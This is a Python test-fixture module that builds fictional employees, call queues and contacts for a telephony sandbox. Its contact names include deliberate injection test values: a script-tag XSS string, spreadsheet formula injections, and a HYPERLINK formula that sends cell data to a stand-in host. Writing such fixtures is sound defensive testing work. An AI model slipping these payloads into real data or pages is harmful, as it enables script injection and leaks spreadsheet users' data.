"""The people of the invented company and the people they talk to. Every number is from a range reserved for fiction."""

from __future__ import annotations

import unicodedata
from functools import cache
from random import Random

from sandbox.model import Contact, Person, Queue

COMPANY_NAME = "Müller & Söhne Elektrotechnik GmbH"
MAIN_DE, MAIN_US, MAIN_UK = "+493023125000", "+12125550100", "+442079460000"

_PEOPLE = (
    ("Grete", "Beispiel", "Management"),
    ("Jonas", "Müller", "Sales"),
    ("Aoife", "O'Brien", "Sales"),
    ("Zoë", "Dvořák-Łukasik", "Sales"),
    ("Ingrid", "Söderström", "Support"),
    ("Mehmet", "Yıldız", "Support"),
    ("Chloé", "Lefèvre", "Support"),
    ("Wei", "Zhang", "Support"),
    ("Fatima", "al-Amin", "Accounting"),
    ("Björn", "Groß", "Accounting"),
    ("Nkechi", "Okafor", "Engineering"),
    ("Sofía", "Núñez", "Engineering"),
    ("Tom", "Fisher & Co", "Engineering"),
    ("Lena", "Krüger", "Engineering"),
    ("Anna-Lena", "von der Heide", "Reception"),
    ("李", "小龍", "Engineering"),
    ("Max", "Mustermann", "Workshop"),
    ("Erika", "Mustermann", "Workshop"),
    ("Paul", "Ng", "Workshop"),
    ("Đorđe", "Petrović", "Workshop"),
    ("Olga", "Иванова", "Sales"),
    ("Sam", "Taylor", "Support"),
    ("Aurelio", "Fernández de la Vega y Ruiz-Montenegro", "Management"),
    ("Meeting", "Room 🪴 2", "Rooms"),
)
_CONTACTS = (
    ("Ina Muster", "Muster AG"),
    ("<b>Bold</b> & Partners", "<script>alert(1)</script>"),
    ('=HYPERLINK("https://example.invalid/?x="&A1,"Click")', "=1+1"),
    ("+49 Copy Shop", "-2+3"),
    ("@SUM(A1:A9)", "Spreadsheet Ltd"),
    ("Bäckerei Öztürk 🥨", "Bäckerei Öztürk"),
    ("👩‍👩‍👧‍👦 Familie Sommer", ""),
    ("O'Neill, Siobhán", "O'Neill & Daughters"),
    ("שלום עליכם", "Haifa Trading"),
    ('"Quoted" Name; with, separators\tand tab', "CSV Corner"),
    ("Very Long Name " * 14, "Long Names Inc"),
    ("Dr. Wolfgang Amadé Schröder-Hölzl", "Kanzlei Schröder"),
)
_FIRST_NAMES = "Ada Ben Cara Dirk Emma Finn Gina Hugo Iris Jack Kira Liam Mia Noah Olivia Pia Quinn Rosa Sven Tara"
_LAST_NAMES = "Adler Brandt Carter Diaz Eriksen Fuchs Green Hansen Ivers Jung King Lorenz Meyer Novak Otto Price"


def persons() -> tuple[Person, ...]:
    """The 24 who work here. Person 7 has an extension with leading zeros."""
    return tuple(_person(index, *entry) for index, entry in enumerate(_PEOPLE))


def _person(index: int, first_name: str, last_name: str, department: str) -> Person:
    return Person(
        index=index,
        first_name=first_name,
        last_name=last_name,
        email=f"{_ascii(first_name, f'user{index}')}.{_ascii(last_name, str(index))}@example.org",
        extension="007" if index == 7 else str(100 + index),
        department=department,
        admin=index in (0, 22),
        number_de=f"+493023125{index + 1:03d}",
        number_us=f"+1212555{101 + index:04d}",
        number_uk=f"+4420794600{index + 1:02d}",
        mobile_de=f"+4917604069{index + 60:03d}" if index < 40 else "",
        do_not_disturb=index in (9, 18),
        online=index % 6 != 5,
        voicemail=index != 23,
    )


def queues() -> tuple[Queue, ...]:
    """Sales, support and reception."""
    members = {"Sales": (1, 2, 3, 20), "Support & Service": (4, 5, 6, 7, 21), "Zentrale": (14, 0, 8)}
    return tuple(
        Queue(i, name, str(200 + i), who, f"+49302312590{i}", f"+1212555015{i}", f"+44207946009{i}")
        for i, (name, who) in enumerate(members.items())
    )


@cache
def contacts(seed: int) -> tuple[Contact, ...]:
    """About a hundred outside people, the awkward names first."""
    random = Random(f"contacts:{seed}")  # noqa: S311 (reproducible on purpose)
    first_names, last_names = _FIRST_NAMES.split(), _LAST_NAMES.split()
    names = list(_CONTACTS)
    while len(names) < 96:
        name = f"{random.choice(first_names)} {random.choice(last_names)}"
        names.append(
            (name, random.choice(("", f"{random.choice(last_names)} GmbH", f"{random.choice(last_names)} Ltd")))
        )
    return tuple(_contact(index, name, organization) for index, (name, organization) in enumerate(names))


def _contact(index: int, name: str, organization: str) -> Contact:
    country = ("de", "us", "de", "uk", "de", "us")[index % 6]
    step = index // 6
    number = {
        "de": f"+4917604069{step:03d}" if index % 6 == 0 else f"+492214710{100 + index:03d}",
        "us": f"+1{('415', '312', '646')[step % 3]}555{110 + index % 90:04d}",
        "uk": f"+442079460{500 + index:03d}",
    }[country]
    return Contact(index, name, organization, number, f"contact{index}@example.net", country)


def _ascii(text: str, otherwise: str) -> str:
    plain = unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode().lower()
    word = "".join(c for c in plain if c.isalnum())
    return word or otherwise
